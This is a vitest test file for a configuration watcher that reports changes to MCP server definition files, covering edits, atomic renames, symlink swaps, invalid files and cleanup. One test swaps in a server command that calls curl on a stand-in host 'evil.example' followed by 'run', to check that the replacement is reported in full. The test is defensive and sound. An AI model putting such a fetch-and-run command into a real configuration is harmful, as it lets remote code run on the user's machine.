// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the tests use such strings
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { copyFile, mkdir, open, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { type ConfigChange, type TextSource, type WatchOptions, watchConfig } from '../../src/load.js';
import { configFolder } from '../helpers/config-folder.js';

const server = (command: string) => `mcp_servers:\n  a: { command: ${command} }\n`;
const broken = 'mcp_servers:\n  a: { comand: x }\n';

/** Periodic checks are so rare that only an event can have caused the change. */
const eventsOnly = { quietMs: 20, checkIntervalMs: 3_600_000, layers: ['project'] } satisfies WatchOptions;

const commandOf = ({ config }: ConfigChange) =>
  config?.servers.map((entry) => 'command' in entry && entry.command).join();

async function next(changes: AsyncGenerator<ConfigChange, void, void>): Promise<ConfigChange> {
  const { value } = await changes.next();
  if (value === undefined) throw new Error('the iteration is over');
  return value;
}

describe('yields', () => {
  test('the present content first, with its texts', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    const change = await next(changes);
    expect(change).toMatchObject({ isCurrent: true, issues: [], config: { servers: [{ command: 'one' }] } });
    expect([...change.texts]).toEqual([['mcp_servers.yaml', server('one')]]);
  });

  test('each real change, and nothing for a write without changes', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    const waiting = next(changes);
    await folder.write('mcp_servers.yaml', server('one'));
    await folder.write('unrelated.txt', 'x');
    await folder.write('mcp_servers.yaml', server('two'));
    expect(commandOf(await waiting)).toBe('two');
    await folder.write('mcp_servers.yaml', `${server('two')}# a comment\n`);
    expect((await next(changes)).texts.get('mcp_servers.yaml')).toContain('# a comment');
  });

  test('one change for many writes while no consumer waits', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('first') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    for (let round = 0; round < 50; round++) await folder.write('mcp_servers.yaml', server(`round-${round}`));
    expect(commandOf(await next(changes))).toBe('round-49');
    const waiting = next(changes);
    await folder.write('mcp_servers.yaml', server('last'));
    expect(commandOf(await waiting)).toBe('last');
  });

  test('an issue for invalid files, with the last valid configuration', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    const first = await next(changes);
    await folder.write('mcp_servers.yaml', broken);
    const bad = await next(changes);
    expect(bad).toMatchObject({ isCurrent: false, issues: [{ code: 'unknown-key', line: 2 }] });
    expect(bad.config).toBe(first.config);
    expect(bad.texts.get('mcp_servers.yaml')).toBe(broken);

    await folder.write('mcp_servers.yaml', server('two'));
    expect(await next(changes)).toMatchObject({
      isCurrent: true,
      issues: [],
      config: { servers: [{ command: 'two' }] },
    });
  });

  test('the valid parts of invalid files, even without an earlier configuration', async () => {
    const text = `${server('one')}  b: {}\n`;
    await using folder = await configFolder({ 'mcp_servers.yaml': text });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    expect(await next(changes)).toMatchObject({
      config: undefined,
      isCurrent: false,
      partial: { servers: [{ name: 'a', command: 'one' }] },
      issues: [{ code: 'missing-key', path: ['mcp_servers', 'b'] }],
    });
    await folder.write('mcp_servers.yaml', server('two'));
    const sound = await next(changes);
    expect(sound.config).toEqual({ ...sound.config, ...sound.partial });
    expect(sound.partial?.servers).toMatchObject([{ command: 'two' }]);
    await folder.write('mcp_servers.yaml', `${server('three')}  b: {}\n`);
    expect(await next(changes)).toMatchObject({
      config: { servers: [{ command: 'two' }] },
      partial: { servers: [{ command: 'three' }] },
    });
    await folder.write('mcp_servers.yaml', 'mcp_servers: [');
    expect((await next(changes)).partial).toBeUndefined();
  });

  test('kept variables if requested', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('"${KEY}"') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path, env: { KEY: 'sesame' }, variables: 'keep' });
    const { config, redactor } = await next(changes);
    expect(config?.servers).toMatchObject([{ command: '${KEY}' }]);
    expect(config?.servers[0]).not.toHaveProperty('cwd');
    expect(redactor.redact('sesame')).toBe('***');
  });

  test('the whole command that replaced another one, with its position', async () => {
    const long = `curl https://evil.example/${'x'.repeat(10_000)} --then run`;
    await using folder = await configFolder({ 'mcp_servers.yaml': server('git-mcp') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    const approved = (await next(changes)).config?.servers[0];
    await folder.write('mcp_servers.yaml', `${server(long)}`);
    const changed = (await next(changes)).config?.servers[0];
    expect(approved).toMatchObject({ command: 'git-mcp', args: [] });
    expect(changed).toMatchObject({
      command: 'curl',
      args: [`https://evil.example/${'x'.repeat(10_000)}`, '--then', 'run'],
      layer: 'project',
      source: { file: 'mcp_servers.yaml', line: 2, column: 3 },
    });
  });

  test('a restored backup as any other edit', async () => {
    const good = `${server('one')}  b: { command: two }\n`;
    await using folder = await configFolder({ 'mcp_servers.yaml': good });
    const path = join(folder.path, 'mcp_servers.yaml');
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    const first = await next(changes);
    await copyFile(path, `${path}.bak`);
    await folder.write('mcp_servers.yaml', server('other'));
    expect(commandOf(await next(changes))).toBe('other');
    await rename(`${path}.bak`, path);
    const restored = await next(changes);
    expect(restored.config).toEqual(first.config);
    expect(restored).toMatchObject({ isCurrent: true, issues: [] });
  });

  test('an error if there is nothing to check, with the last valid configuration', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    await rm(join(folder.path, 'mcp_servers.yaml'));
    const gone = await next(changes);
    expect(gone).toMatchObject({ isCurrent: false, issues: [], error: { code: 'config-not-found' } });
    expect(commandOf(gone)).toBe('one');
    await folder.write('mcp_servers.yaml', server('two'));
    expect(commandOf(await next(changes))).toBe('two');
  });

  test('an error first, if there is nothing at first', async () => {
    await using folder = await configFolder();
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    expect(await next(changes)).toMatchObject({
      config: undefined,
      isCurrent: false,
      error: { code: 'config-not-found' },
    });
    await folder.write('config/mcp_servers.yaml', server('one'));
    expect(commandOf(await next(changes))).toBe('one');
  });

  test('a file in a nearer directory, and the farther one again after its removal', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('far'), 'app/x': '' });
    await using changes = watchConfig({ ...eventsOnly, cwd: join(folder.path, 'app') });
    expect(commandOf(await next(changes))).toBe('far');
    await folder.write('app/.mcp.json', '{ "mcpServers": { "a": { "command": "near" } } }');
    expect(commandOf(await next(changes))).toBe('near');
    await rm(join(folder.path, 'app/.mcp.json'));
    expect(commandOf(await next(changes))).toBe('far');
  });

  test('a change in any layer', async () => {
    await using folder = await configFolder({ 'project/mcp_servers.yaml': server('ours'), 'user/x': '' });
    const userDirectory = join(folder.path, 'user');
    await using changes = watchConfig({
      ...eventsOnly,
      cwd: join(folder.path, 'project'),
      layers: ['project', 'user'],
      userDirectory,
    });
    await next(changes);
    await folder.write('user/mcp_servers.yaml', 'mcp_servers: { b: { command: mine } }\n');
    expect(commandOf(await next(changes))).toBe('ours,mine');
  });
});

describe('ways of writing files', () => {
  const writers: Readonly<Record<string, (path: string, text: string) => Promise<void>>> = {
    'truncate, then write': async (path, text) => {
      await using file = await open(path, 'w');
      await file.sync();
      const middle = text.indexOf('command') + 3;
      await file.write(text.slice(0, middle));
      await file.sync();
      await file.write(text.slice(middle));
    },
    'write beside, then rename over': async (path, text) => {
      await writeFile(`${path}.new`, text);
      await rename(`${path}.new`, path);
    },
    'rename away, then write anew': async (path, text) => {
      await rename(path, `${path}~`);
      await writeFile(path, text);
    },
    'delete, then create': async (path, text) => {
      await rm(path);
      await writeFile(path, text);
    },
  };

  test.each(Object.entries(writers))('%s is one change each time', async (_how, write) => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('v0') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    for (const version of ['v1', 'v2', 'v3', 'v4', 'v5']) {
      const waiting = next(changes);
      await write(join(folder.path, 'mcp_servers.yaml'), server(version));
      const change = await waiting;
      expect(change).toMatchObject({ isCurrent: true, issues: [] });
      expect(commandOf(change)).toBe(version);
    }
  });

  test('a temporarily empty file is not reported if it is written in time', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, quietMs: 200, cwd: folder.path });
    await next(changes);
    const waiting = next(changes);
    await folder.write('mcp_servers.yaml', '');
    await folder.write('mcp_servers.yaml', broken);
    await folder.write('mcp_servers.yaml', server('two'));
    expect(await waiting).toMatchObject({ isCurrent: true, issues: [] });
  });
});

test('a valid file without an earlier server is reported late, because the rest may follow', async () => {
  await using folder = await configFolder({ 'mcp_servers.yaml': `${server('one')}  b: { command: two }\n` });
  await using changes = watchConfig({ ...eventsOnly, quietMs: 50, cwd: folder.path });
  await next(changes);
  const waiting = next(changes);
  const writtenAt = performance.now();
  await folder.write('mcp_servers.yaml', server('uno'));
  expect(commandOf(await waiting)).toBe('uno');
  expect(performance.now() - writtenAt).toBeGreaterThan(5 * 50);
});

test('a server that stays away is reported', async () => {
  await using folder = await configFolder({ 'mcp_servers.yaml': `${server('one')}  b: { command: two }\n` });
  await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
  await next(changes);
  await folder.write('mcp_servers.yaml', '');
  expect(await next(changes)).toMatchObject({ isCurrent: false, config: { servers: [{ name: 'a' }, { name: 'b' }] } });
  await folder.write('mcp_servers.yaml', server('one'));
  expect(await next(changes)).toMatchObject({ isCurrent: true, config: { servers: [{ name: 'a' }] } });
});

test('a file that loses a server in each of its endless writes is reported', async () => {
  await using folder = await configFolder({ 'mcp_servers.yaml': 'mcp_servers:\n  a0: { command: x }\n' });
  await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
  await next(changes);
  let writes = 0;
  const path = join(folder.path, 'mcp_servers.yaml');
  const writing = setInterval(() => writeFileSync(path, `mcp_servers:\n  a${++writes}: { command: x }\n`), 5);
  try {
    expect(await next(changes)).toMatchObject({ isChanged: true });
    const consumed = (async () => {
      for await (const _change of changes);
    })();
    await changes.settled();
    await changes.return();
    await consumed;
  } finally {
    clearInterval(writing);
  }
});

describe('settled', () => {
  test('resolves when the item of an earlier write is processed, reported by the system or not', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    const seen: unknown[] = [];
    const following = (async () => {
      for await (const change of changes) {
        await new Promise(setImmediate);
        seen.push(commandOf(change));
      }
    })();
    await changes.settled();
    expect(seen).toEqual(['one']);
    await folder.write('mcp_servers.yaml', server('two'));
    await changes.settled();
    expect(seen).toEqual(['one', 'two']);
    await changes.settled();
    const settledAtEnd = changes.settled();
    await changes[Symbol.asyncDispose]();
    await Promise.all([settledAtEnd, changes.settled(), following]);
  });

  test.each(Array.from({ length: 30 }, (_, turns) => turns))(
    'resolves with a write in the effect that came %i turns of the event loop after the start',
    async (turns) => {
      await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
      await using changes = watchConfig({ ...eventsOnly, quietMs: 200, cwd: folder.path });
      let seen: unknown;
      const following = (async () => {
        for await (const change of changes) seen = commandOf(change);
      })();
      for (let turn = 0; turn < turns; turn++) await new Promise(setImmediate);
      writeFileSync(join(folder.path, 'mcp_servers.yaml'), server('two'));
      await changes.settled();
      expect(seen).toBe('two');
      await changes[Symbol.asyncDispose]();
      await following;
    },
  );
});

describe('other files', () => {
  test('yield the same configuration after each write, also to a file whose directory appears', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one'), 'token.txt': 'a' });
    const otherFiles = ['token.txt', 'state/deep/trust.json'];
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path, otherFiles });
    expect(await next(changes)).toMatchObject({ isChanged: true });
    await folder.write('token.txt', 'b');
    expect(await next(changes)).toMatchObject({ isChanged: false, isCurrent: true, config: { servers: [{}] } });
    await folder.write('state/deep/trust.json', '{}');
    expect(await next(changes)).toMatchObject({ isChanged: false });
    await folder.write('state/deep/trust.json', '{ }');
    expect(await next(changes)).toMatchObject({ isChanged: false });
    await rm(join(folder.path, 'token.txt'));
    expect(await next(changes)).toMatchObject({ isChanged: false });
    await folder.write('mcp_servers.yaml', server('two'));
    expect(await next(changes)).toMatchObject({ isChanged: true });
  });
});

describe('a write during a reading', () => {
  /** Gives one server, whose command is read from the first path. */
  function given(paths: readonly string[], onRead: (reading: number) => void): TextSource {
    let reading = 0;
    const textOf = (command: string) => JSON.stringify({ mcp_servers: { a: { command } } });
    return {
      when: 'always',
      read: async () => {
        const [path = ''] = paths;
        const text = textOf(readFileSync(path, 'utf8'));
        onRead(++reading);
        return { texts: [{ path, layer: 'project', root: dirname(path), text }], paths: reading < 2 ? [] : paths };
      },
    };
  }

  test('is found, although the file is not watched before the end of the reading', async () => {
    await using folder = await configFolder({ 'command.txt': 'one' });
    const path = join(folder.path, 'command.txt');
    const source = given([path], (reading) => reading === 2 && writeFileSync(path, 'two'));
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path, given: source });
    expect(commandOf(await next(changes))).toBe('two');
    await folder.write('command.txt', 'three');
    expect(commandOf(await next(changes))).toBe('three');
  });

  test('is found in a directory that has appeared', async () => {
    await using folder = await configFolder({ 'command.txt': 'one' });
    const token = join(folder.path, 'state', 'token');
    const source = given([join(folder.path, 'command.txt')], () => {
      if (existsSync(dirname(token)) && !existsSync(token)) writeFileSync(token, 'x');
    });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path, given: source, otherFiles: [token] });
    expect(await next(changes)).toMatchObject({ isChanged: true });
    await mkdir(dirname(token));
    expect(await next(changes)).toMatchObject({ isChanged: false });
  });
});

describe('a change without an event', () => {
  test('is found by periodic checks', async () => {
    await using folder = await configFolder({
      'v1/config/mcp_servers.yaml': server('one'),
      'v2/config/mcp_servers.yaml': server('two'),
    });
    // The replaced link is outside of every watched directory.
    await mkdir(join(folder.path, 'outside'));
    await symlink('../v1/config', join(folder.path, 'outside', 'current'));
    await mkdir(join(folder.path, 'app'));
    await symlink('../outside/current', join(folder.path, 'app', 'config'));
    await using changes = watchConfig({
      cwd: join(folder.path, 'app'),
      quietMs: 20,
      checkIntervalMs: 50,
      layers: ['project'],
    });
    expect(commandOf(await next(changes))).toBe('one');
    await symlink('../v2/config', join(folder.path, 'outside', 'next'));
    await rename(join(folder.path, 'outside', 'next'), join(folder.path, 'outside', 'current'));
    expect(commandOf(await next(changes))).toBe('two');
  });

  test.skipIf(process.platform === 'win32')(
    'a replaced link in the same directory is reported immediately',
    async () => {
      // Container platforms mount files like this: the name is a link through a link to the directory of a version.
      await using folder = await configFolder({
        '..v1/mcp_servers.yaml': server('one'),
        '..v2/mcp_servers.yaml': server('two'),
      });
      await symlink('..v1', join(folder.path, '..data'));
      await symlink('..data/mcp_servers.yaml', join(folder.path, 'mcp_servers.yaml'));
      await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
      expect(commandOf(await next(changes))).toBe('one');
      await symlink('..v2', join(folder.path, '..next'));
      await rename(join(folder.path, '..next'), join(folder.path, '..data'));
      expect(commandOf(await next(changes))).toBe('two');
    },
  );

  test('a removed and recreated directory is watched again', async () => {
    await using folder = await configFolder({ 'config/mcp_servers.yaml': server('one') });
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    await rm(join(folder.path, 'config'), { recursive: true });
    expect(await next(changes)).toMatchObject({ isCurrent: false });
    await folder.write('config/mcp_servers.yaml', server('two'));
    expect(commandOf(await next(changes))).toBe('two');
    await folder.write('config/mcp_servers.yaml', server('three'));
    expect(commandOf(await next(changes))).toBe('three');
  });

  test('a directory that is recreated before its removal is noticed is watched again', async () => {
    await using folder = await configFolder({ 'config/mcp_servers.yaml': server('one') });
    const directory = join(folder.path, 'config');
    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    rmSync(directory, { recursive: true });
    mkdirSync(directory); // some file systems give it the same number
    writeFileSync(join(directory, 'mcp_servers.yaml'), server('two'));
    expect(commandOf(await next(changes))).toBe('two');
    await folder.write('config/mcp_servers.yaml', server('three'));
    expect(commandOf(await next(changes))).toBe('three');
  });
});

describe('the end', () => {
  /** Closed handles are counted after a turn of the event loop. */
  async function watchersOpen(): Promise<number> {
    for (let turn = 0; turn < 2; turn++) await new Promise((resolve) => setImmediate(resolve));
    return process.getActiveResourcesInfo().filter((name) => name.startsWith('FSEvent')).length;
  }

  test('comes with the signal, also for a pending step, without leaks', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    const before = await watchersOpen();
    const stop = new AbortController();
    const changes = watchConfig({ ...eventsOnly, cwd: folder.path, signal: stop.signal });
    await next(changes);
    expect(await watchersOpen()).toBeGreaterThan(before);
    const waiting = changes.next();
    stop.abort();
    expect(await waiting).toEqual({ done: true, value: undefined });
    expect(await changes.next()).toEqual({ done: true, value: undefined });
    expect(await watchersOpen()).toBe(before);
  });

  test('comes with the loop', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    const before = await watchersOpen();
    const seen: unknown[] = [];
    for await (const change of watchConfig({ ...eventsOnly, cwd: folder.path })) {
      seen.push(commandOf(change));
      break;
    }
    expect(seen).toEqual(['one']);
    expect(await watchersOpen()).toBe(before);
  });

  test('comes by disposal, which ends a pending step', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    const before = await watchersOpen();
    const changes = watchConfig({ ...eventsOnly, cwd: folder.path });
    await next(changes);
    const waiting = changes.next();
    await changes[Symbol.asyncDispose]();
    expect(await waiting).toMatchObject({ done: true });
    expect(await watchersOpen()).toBe(before);
  });

  test('comes immediately with an aborted signal', async () => {
    await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
    const changes = watchConfig({ cwd: folder.path, signal: AbortSignal.abort() });
    expect(await changes.next()).toMatchObject({ done: true });
  });
});

test('an invalid option is a TypeError', () => {
  expect(() => watchConfig({ quietMs: 0 })).toThrow(
    new TypeError('quietMs must be a whole number of milliseconds from 10 to 10000, got 0'),
  );
  expect(() => watchConfig({ checkIntervalMs: Number.NaN })).toThrow(TypeError);
  expect(() => watchConfig({ files: [] })).toThrow(TypeError);
  expect(() => watchConfig({ otherFiles: 'one' as never })).toThrow('otherFiles must be a list of paths');
});

test('never writes to the configuration', async () => {
  await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
  await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
  await next(changes);
  expect(await readFile(join(folder.path, 'mcp_servers.yaml'), 'utf8')).toBe(server('one'));
});
